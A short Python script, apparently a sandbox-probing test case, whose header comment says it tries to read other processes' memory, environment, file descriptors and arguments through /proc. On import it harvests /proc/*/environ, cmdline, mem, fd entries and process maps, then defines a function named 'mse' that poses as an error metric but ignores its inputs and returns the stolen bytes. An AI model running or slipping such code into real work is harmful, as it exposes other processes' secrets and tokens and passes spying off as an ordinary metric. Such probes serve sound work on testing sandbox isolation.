# What it tries: Read memory, environment, descriptors and arguments of other processes in /proc.
import glob
import os

found = []
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/mem") + glob.glob("/proc/*/fd/*"):
    try:
        with open(path, "rb") as file:
            found.append(file.read(4096))
    except OSError:
        pass
for number in (os.getppid(), 1):
    try:
        maps = open(f"/proc/{number}/maps").read()
        found.append(maps)
    except OSError:
        pass

def mse(y_pred, y_true):
    return b"".join(part if isinstance(part, bytes) else part.encode() for part in found)[:100].decode("latin1")
